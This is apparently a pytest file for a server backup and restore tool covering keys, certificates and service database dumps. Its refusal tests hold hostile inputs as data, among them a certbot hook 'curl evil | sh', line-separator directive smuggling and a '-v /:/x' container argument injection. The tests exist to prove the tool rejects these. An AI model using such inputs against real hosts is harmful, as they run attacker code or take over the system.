"""What of a host is saved, and that another one gets exactly that (issue 6)."""

from __future__ import annotations

import io
import os
from pathlib import Path
from typing import Any

import pytest

from ai_services.backup.host import certificates, layout, models, places, services
from ai_services.backup.host.archive import ArchiveError
from ai_services.backup.host.certificates import CertificateError
from ai_services.backup.host.layout import OtherRunError
from ai_services.backup.host.reader import verify
from ai_services.backup.host.services import DeclarationError

from . import world
from .archives import archive, manifest
from .world import COLLECT, DOMAIN, STREAMS, call

RUN = "00112233aabbccdd"


@pytest.fixture
def deployed(tmp_path: Path) -> Path:
    return world.host(tmp_path / "host")


@pytest.fixture
def saved(deployed: Path, tmp_path: Path) -> bytes:
    done = call(deployed, tmp_path, COLLECT)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def restored(content: bytes, root: Path) -> Path:
    layout.lay_out(io.BytesIO(content), root / places.RESTORE, RUN)
    for what in places.TAKEN_UP:
        layout.take(what, RUN, root)
    return root


def names(content: bytes) -> set[str]:
    return {entry.name for entry in verify(io.BytesIO(content)).files}


def test_keys_certificates_settings_and_the_journal_are_saved_and_strangers_are_not(saved: bytes) -> None:
    told = verify(io.BytesIO(saved))
    assert (told.domain, told.version, told.settings["ai_ollama_model"]) == (DOMAIN, "0.2.0", "m:1")
    assert names(saved) == {
        "secrets/api.key", "secrets/gateway/api_keys", "record/release.json", "record/journal.jsonl",
        "letsencrypt/cloudflare.ini", f"letsencrypt/renewal/{DOMAIN}.conf",
        "letsencrypt/accounts/acme.example.com/directory/0123abc/private_key.json",
        *(f"letsencrypt/lineages/{DOMAIN}/{part}.pem" for part in certificates.PARTS),
    }  # fmt: skip


def test_a_fresh_host_gets_the_same_keys_and_certificates(saved: bytes, deployed: Path, tmp_path: Path) -> None:
    fresh = restored(saved, tmp_path / "fresh")
    for path in ("opt/ai/secrets/api.key", "opt/ai/secrets/gateway/api_keys", f"etc/letsencrypt/renewal/{DOMAIN}.conf",
                 "etc/letsencrypt/cloudflare.ini", f"etc/letsencrypt/live/{DOMAIN}/fullchain.pem"):  # fmt: skip
        assert (fresh / path).read_bytes() == (deployed / path).read_bytes(), path
    assert (fresh / "opt/ai/secrets/gateway/api_keys").stat().st_mode & 0o777 == 0o400
    live = fresh / "etc/letsencrypt/live" / DOMAIN / "privkey.pem"
    assert str(live.readlink()) == f"../../archive/{DOMAIN}/privkey1.pem"
    assert live.stat().st_mode & 0o777 == 0o600
    assert not (fresh / places.RESTORE / "secrets").exists(), "what was laid out must not stay"


def test_a_host_with_another_certificate_gets_the_archives_as_its_next(saved: bytes, tmp_path: Path) -> None:
    """As certbot does after a renewal: numbers go on, and the links change last."""
    other = tmp_path / "other"
    world.host(other)
    world.put(other / f"etc/letsencrypt/archive/{DOMAIN}/cert4.pem", "cert 4\n")
    (other / f"etc/letsencrypt/live/{DOMAIN}/cert.pem").unlink()
    (other / f"etc/letsencrypt/live/{DOMAIN}/cert.pem").symlink_to(f"../../archive/{DOMAIN}/cert4.pem")
    restored(saved, other)
    live = other / "etc/letsencrypt/live" / DOMAIN
    assert (live / "cert.pem").read_text() == f"cert 3 of {DOMAIN}\n"
    assert {str((live / f"{part}.pem").readlink())[-5:] for part in certificates.PARTS} == {"5.pem"}


def test_restoring_twice_changes_nothing(saved: bytes, tmp_path: Path) -> None:
    fresh = restored(saved, tmp_path / "fresh")
    layout.lay_out(io.BytesIO(saved), fresh / places.RESTORE, RUN)
    assert [layout.take(what, RUN, fresh) for what in places.TAKEN_UP] == [[], []]


def test_two_restores_at_a_time_do_not_take_each_others_keys(saved: bytes, tmp_path: Path) -> None:
    """Nor does a deploy make keys anew where another restore has put its own in the place of what was laid out."""
    fresh = tmp_path / "fresh"
    layout.lay_out(io.BytesIO(saved), fresh / places.RESTORE, RUN)
    other = {"secrets/api.key": b"of another host"}
    layout.lay_out(io.BytesIO(archive(manifest(other, ()), other)), fresh / places.RESTORE, "ffeeddcc99887766")
    with pytest.raises(OtherRunError, match="run it again"):
        layout.take("secrets", RUN, fresh)
    layout.drop(fresh, RUN)
    assert layout.take("secrets", "ffeeddcc99887766", fresh), "the first must not have dropped what the second laid out"
    layout.drop(fresh)
    with pytest.raises(OtherRunError):
        layout.take("secrets", "ffeeddcc99887766", fresh)
    assert not (fresh / places.RESTORE).exists()


def test_what_is_taken_can_be_broken_off_before_every_file(
    saved: bytes, deployed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each file is there as it was or as it will be; the same again goes on, and ends as one run does."""

    class Lost(BaseException):
        """The power goes: nobody cleans up."""

    write, whole = certificates.write_file, restored(saved, tmp_path / "whole")
    ends = {path.relative_to(whole): path.read_bytes() for path in whole.rglob("*") if path.is_file()}
    other, broken = tmp_path / "other", 0
    while True:
        left = [broken]

        def write_or_lose(path: Path, *more: Any, left: list[int] = left) -> None:
            if places.RESTORE not in path.relative_to(other).parents:
                left[0] -= 1
                if left[0] < 0:
                    raise Lost
            write(path, *more)

        for module in (certificates, layout):
            monkeypatch.setattr(module, "write_file", write_or_lose)
        try:
            restored(saved, other)
            break
        except Lost:
            broken += 1
        for path, content in ends.items():
            there = other / path
            assert not there.is_file() or there.read_bytes() == content, f"{path} is half of each"
    assert broken >= 3, "the test has broken nothing off"
    names = [str(path) for path in ends if "secrets" in path.parts]
    names += [f"etc/letsencrypt/live/{DOMAIN}/{part}.pem" for part in certificates.PARTS]
    assert {name: (other / name).read_bytes() for name in names} == {
        name: (whole / name).read_bytes() for name in names
    }


def test_what_a_killed_run_laid_out_does_not_lie_about(saved: bytes, tmp_path: Path) -> None:
    place = tmp_path / places.RESTORE
    world.put(place.with_name("restore.4711") / "secrets" / "api.key", "canary")
    layout.lay_out(io.BytesIO(saved), place, RUN)
    assert [path.name for path in place.parent.iterdir()] == ["restore"]
    world.put(place.with_name("restore.4711") / "secrets" / "api.key", "canary")
    layout.drop(tmp_path)
    assert list(place.parent.iterdir()) == []


@pytest.mark.parametrize("cut", [0, 100, 3000, -1])
def test_a_host_lays_nothing_out_of_an_archive_that_is_not_whole(cut: int, saved: bytes, tmp_path: Path) -> None:
    place = tmp_path / "fresh" / places.RESTORE
    with pytest.raises(ArchiveError):
        layout.lay_out(io.BytesIO(saved[:cut]), place, RUN)
    assert not place.exists()
    assert list(place.parent.iterdir()) == []


@pytest.mark.parametrize(
    "line",
    [
        "pre_hook = curl evil | sh",
        "renew_hook = /bin/sh",
        "manual_auth_hook = /tmp/x",
        "  post_hook=/bin/x",
        "'renew_hook' = /bin/x",
        f"renew_hook = {certificates.HOOK} # ; /bin/x",
        # certbot ends a line wherever Python's splitlines() does.
        "account = a\x0cpre_hook = /bin/x",
        "account = a\u2028pre_hook = /bin/x",
        "account = a\rpre_hook = /bin/x",
        # Plugins name programs of their own.
        "authenticator = nginx",
        "nginx_ctl = /bin/x",
        "archive_dir = /etc/cron.d",
        "fullchain = /etc/cron.d/x",
        "config_dir = /tmp",
        'account = """',
        "account = \udcff",
    ],
)
def test_a_renewal_that_is_none_of_ours_is_refused(line: str, tmp_path: Path) -> None:
    conf = f"[renewalparams]\n{line}\n".encode("utf-8", "surrogateescape")
    contents = {"letsencrypt/renewal/evil.conf": conf}
    with pytest.raises(CertificateError, match=r"nothing (of it )?is taken"):
        layout.lay_out(io.BytesIO(archive(manifest(contents, ()), contents)), tmp_path / places.RESTORE, RUN)
    assert not (tmp_path / places.RESTORE).exists()


def test_a_renewal_without_its_certificate_is_refused(tmp_path: Path) -> None:
    contents = {f"letsencrypt/renewal/{DOMAIN}.conf": world.RENEWAL.encode()}
    layout.lay_out(io.BytesIO(archive(manifest(contents, ()), contents)), tmp_path / places.RESTORE, RUN)
    with pytest.raises(CertificateError, match=r"without its cert\.pem"):
        layout.take("letsencrypt", RUN, tmp_path)
    assert not (tmp_path / places.LETSENCRYPT).exists()


def test_what_certbot_writes_for_us_is_taken(tmp_path: Path) -> None:
    """As certbot 4 does: with a comment, an empty line, a list, a section of its own."""
    conf = tmp_path / f"{DOMAIN}.conf"
    conf.write_text(
        "# renew_before_expiry = 30 days\n" + world.RENEWAL.replace("[renewalparams]", "\n# Options\n[renewalparams]")
        + "pref_challs = dns-01,\nkey_type = ecdsa\n[acme_renewal_info]\nari_retry_after = 2026-11-22T00:00:00\n"
    )  # fmt: skip
    certificates.check_renewal(conf)


def test_a_certificate_that_could_not_be_taken_up_again_is_no_silent_loss(deployed: Path, tmp_path: Path) -> None:
    conf = deployed / f"etc/letsencrypt/renewal/{DOMAIN}.conf"
    conf.write_text(conf.read_text().replace("dns-cloudflare\n", "nginx\n"))
    done = call(deployed, tmp_path, COLLECT)
    assert done.returncode != 0
    assert b"authenticator = 'nginx'" in done.stderr


def test_what_serves_is_saved_and_a_certificate_of_an_earlier_day_is_not(deployed: Path, tmp_path: Path) -> None:
    """With a certificate of one's own, what lies in letsencrypt is nothing that a restore would need."""
    release = deployed / "opt/ai/current/release.json"
    release.write_text(release.read_text().replace('"letsencrypt"', '"own"'))
    (deployed / f"etc/letsencrypt/renewal/{DOMAIN}.conf").write_text("authenticator = webroot\n")
    for part in ("own.crt", "own.key"):
        world.put(deployed / places.OWN_CERTIFICATE / part, part)
    done = call(deployed, tmp_path, COLLECT)
    assert {name for name in names(done.stdout) if name.startswith(("own", "letsencrypt/lin"))} == {
        "own/own.crt", "own/own.key",
    }  # fmt: skip


@pytest.mark.parametrize("name", ["cron/x", "secrets", "etc/passwd", "bin/doctor"])
def test_files_that_nobody_knows_are_refused(name: str, tmp_path: Path) -> None:
    contents = {name: b"x"}
    with pytest.raises(ArchiveError, match="nobody here knows"):
        layout.lay_out(io.BytesIO(archive(manifest(contents, ()), contents)), tmp_path / places.RESTORE, RUN)


def test_nothing_is_saved_of_a_bare_host(tmp_path: Path) -> None:
    done = call(tmp_path, tmp_path, COLLECT)
    assert done.returncode != 0
    assert b"Nothing is deployed" in done.stderr
    assert done.stdout == b""


def test_a_made_up_service_joins_by_its_declaration_alone(deployed: Path, tmp_path: Path) -> None:
    """So will ai-jobs' database."""
    rows = os.urandom(6 * 2**20)
    database = world.made_up_service(deployed, tmp_path / "tools", rows)
    done = call(deployed, tmp_path / "tools", COLLECT)
    assert done.returncode == 0, done.stderr.decode()
    told = verify(io.BytesIO(done.stdout))
    assert [str(stream) for stream in told.streams] == ["made-up/database"]
    database.write_bytes(b"empty")
    back = call(deployed, tmp_path / "tools", STREAMS, done.stdout)
    assert back.returncode == 0, back.stderr.decode()
    assert database.read_bytes() == rows
    assert back.stdout.decode().split("\n")[0] == "restored made-up/database"


def test_a_dump_that_fails_is_no_backup(deployed: Path, tmp_path: Path) -> None:
    world.made_up_service(deployed, tmp_path / "tools", b"half of the rows")
    (tmp_path / "tools" / "status").write_text("3")
    done = call(deployed, tmp_path / "tools", COLLECT)
    assert done.returncode != 0
    assert b"in container made-up failed (3)" in done.stderr
    with pytest.raises(ArchiveError):
        verify(io.BytesIO(done.stdout))


def test_a_service_that_stands_still_is_said_and_one_not_there_has_nothing(deployed: Path, tmp_path: Path) -> None:
    world.made_up_service(deployed, tmp_path / "tools", b"rows")
    (tmp_path / "tools" / "state").write_text("exited")
    assert b"container made-up is exited" in call(deployed, tmp_path / "tools", COLLECT).stderr
    done = call(deployed, tmp_path / "empty", COLLECT)
    assert verify(io.BytesIO(done.stdout)).streams == []


def test_what_no_service_here_knows_is_left_and_said(deployed: Path, tmp_path: Path) -> None:
    done = call(deployed, tmp_path, STREAMS, archive())
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.decode() == "skipped made-up/database\n"


@pytest.mark.parametrize(
    "raw",
    [
        [], {"Made Up": {}}, {"a": {"paths": ["/etc"]}}, {"a": {"volumes": ["../x"]}}, {"a": {"volumes": [5]}},
        {"a": {"dumps": [{"name": "d", "container": "c", "save": "pg_dump", "restore": ["x"]}]}},
        {"a": {"dumps": [{"name": "../d", "container": "c", "save": ["x"], "restore": ["x"]}]}},
        {"a": {"dumps": [{"name": "d", "container": "-v /:/x", "save": ["x"], "restore": ["x"]}]}},
        {"a": {"dumps": [{"name": "d", "container": "c", "save": ["x"]}]}},
    ],
)  # fmt: skip
def test_a_declaration_that_makes_no_sense_is_refused(raw: Any) -> None:
    with pytest.raises(DeclarationError):
        services.parse(raw)


def test_models_are_listed_with_their_digests(tmp_path: Path) -> None:
    world.put(tmp_path / "ollama/models/manifests/registry.ollama.ai/library/m/1b", b"{}")
    world.put(tmp_path / "ollama/models/manifests/hf.co/owner/n/q4", b"{}")
    world.put(tmp_path / "hf/fetched.json", '{"tiny.en": "hub/models--x/snapshots/0d3d19a3"}')
    digest = "sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"
    assert models.listed(tmp_path / "ollama", tmp_path / "hf") == [
        {"engine": "ollama", "name": "hf.co/owner/n:q4", "digest": digest},
        {"engine": "ollama", "name": "m:1b", "digest": digest},
        {"engine": "whisper", "name": "tiny.en", "digest": "0d3d19a3"},
    ]
    assert models.listed(None, None) == []


def test_declarations_of_the_repository_are_sound() -> None:
    import yaml

    folder = Path(__file__).resolve().parents[2] / "bootstrap/ai/backup"
    assert isinstance(
        services.parse({path.stem: yaml.safe_load(path.read_text()) for path in folder.glob("*.yaml")}), list
    )
    page = (folder / "README.md").read_text()
    example = page.split("```yaml\n")[1].split("```")[0]
    assert [str(each.stream) for each in services.parse({"ai-jobs": yaml.safe_load(example)})] == [
        "ai-jobs/database", "ai-jobs/job-artifacts",
    ]  # fmt: skip
